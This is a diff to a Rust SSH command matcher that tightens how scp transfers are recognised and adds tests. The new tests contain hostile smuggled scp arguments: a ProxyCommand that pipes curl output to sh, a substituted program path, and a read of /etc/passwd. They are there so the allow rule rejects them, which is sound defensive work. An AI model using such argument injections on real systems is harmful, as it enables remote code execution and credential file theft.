@@ -148,14 +148,23 @@ impl CommandMatcher for SshMatcher {
                 (Kind::Shell, CommandKind::Shell { .. }) => true,
                 (Kind::Exec, CommandKind::Exec) => true,
                 // Judging "is this scp" needs the line parsed: fail closed.
-                (Kind::Scp, CommandKind::Exec) => self.transfer(programs(command, scratch)?, |i| {
-                    i.program == "scp"
-                        && i.args.iter().any(|a| {
-                            a.starts_with('-')
-                                && !a.starts_with("--")
-                                && (a.contains('t') || a.contains('f'))
+                (Kind::Scp, CommandKind::Exec) => {
+                    let programs = programs(command, scratch)?;
+                    if self.whole_line {
+                        // Exactly one scp, with only the options a transfer uses.
+                        matches!(programs, [only] if only.program == "scp"
+                            && crate::channel::scp_sink_direction(&only.args).is_some())
+                    } else {
+                        programs.iter().any(|i| {
+                            i.program == "scp"
+                                && i.args.iter().any(|a| {
+                                    a.starts_with('-')
+                                        && !a.starts_with("--")
+                                        && (a.contains('t') || a.contains('f'))
+                                })
                         })
-                }),
+                    }
+                }
                 (Kind::Sftp, CommandKind::Subsystem { name }) => name == "sftp",
                 (Kind::Sftp, CommandKind::Exec) => {
                     self.transfer(programs(command, scratch)?, |i| i.program == "sftp-server")
@@ -245,6 +254,24 @@ mod tests {
         assert!(deny.matches(&smuggled, &mut Scratch::default()).unwrap());
         let plain = exec("scp -t /tmp");
         assert!(allow.matches(&plain, &mut Scratch::default()).unwrap());
+        assert!(allow
+            .matches(&exec("scp -r -p -t /srv/x"), &mut Scratch::default())
+            .unwrap());
+        // Options that make scp run another program are not "an scp".
+        for line in [
+            "scp '-oProxyCommand=curl http://x|sh' -t /tmp",
+            "scp -S /tmp/evil -t /tmp",
+            "scp -F /tmp/conf -f /etc/passwd",
+        ] {
+            assert!(
+                !allow.matches(&exec(line), &mut Scratch::default()).unwrap(),
+                "{line}"
+            );
+            assert!(
+                deny.matches(&exec(line), &mut Scratch::default()).unwrap(),
+                "{line}"
+            );
+        }
         assert!(deny.matches(&plain, &mut Scratch::default()).unwrap());
     }
 }
